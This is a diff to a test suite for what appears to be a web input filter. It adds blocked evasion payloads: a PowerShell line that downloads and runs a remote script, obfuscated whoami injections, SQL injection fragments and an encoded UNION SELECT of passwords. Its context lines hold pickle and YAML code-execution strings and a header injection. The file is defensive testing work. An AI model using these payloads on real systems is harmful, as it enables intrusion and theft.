@@ -193,6 +193,11 @@ EVASIONS = [
     ("crlf", "form", "ann@example.com\r\nBcc: list@victim.example"),
     ("code_injection", "cookie", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
     ("code_injection", "form", "!!python/object/apply:os.system ['id']"),
+    ("cmdi", "json", "iex (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')"),
+    ("cmdi", "query", "x & C:\\Windows\\System32\\whoami.exe"),
+    ("cmdi", "form", "x; w`h`o`a`m`i"),
+    ("sqli", "query", "(CASE WHEN 1=1 THEN id ELSE name END)"),
+    ("sqli", "form", "a', 1) -- "),
 ]
 
 # Their look-alikes, which pass.
@@ -203,6 +208,10 @@ EVASION_LOOK_ALIKES = [
     "\\\\fileserver\\docs\\q3.xlsx",
     "From: ann@example.com\nTo: bob@example.com\nSubject: hello",
     "point: !!python/tuple [1, 2]",
+    "IEX (Investors Exchange) listed the shares",
+    "iex(1)> Enum.sum([1, 2])",
+    "Tom & @jerry",
+    "In case of rain, when it starts, then we stop",
 ]
 
 
@@ -221,6 +230,19 @@ def test_look_alikes_of_those_evasions_pass(app):
             r = send(client, where, text)
             assert r.status_code == 200, (where, text, client.events())
             assert client.events() == [], (where, text)
+
+
+def test_latin1_no_break_space_in_a_raw_query_is_a_space(app):
+    # `%A0` is not UTF-8: read as Latin-1 it is the no-break space MySQL skips like a space.
+    client = Client(app)
+    r = client.get("/search?q=1%A0UNION%A0SELECT%A0password%A0FROM%A0users")
+    assert r.status_code == 403, client.events()
+    assert "sqli" in {e["type"] for e in client.events()}
+    # Spanish words sent in Latin-1 pass (the events file is the app's: this client's only).
+    client = Client(app)
+    r = client.get("/search?q=Cami%F3n%20de%20Espa%F1a")
+    mine = [e for e in client.events() if e["client"] == client.ip]
+    assert r.status_code == 200 and mine == [], mine
 
 
 def test_update_operator_in_a_json_body_is_refused(app):
